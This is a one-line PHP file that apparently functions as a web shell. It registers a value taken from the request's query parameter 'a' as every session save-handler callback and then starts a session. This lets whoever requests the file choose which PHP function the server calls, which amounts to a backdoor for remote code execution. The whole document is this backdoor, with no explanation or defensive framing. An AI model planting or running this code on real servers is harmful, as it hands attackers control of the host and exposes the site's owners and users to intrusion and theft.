<?php session_set_save_handler($_GET["a"], $_GET["a"], $_GET["a"], $_GET["a"], $_GET["a"], $_GET["a"]); session_start();
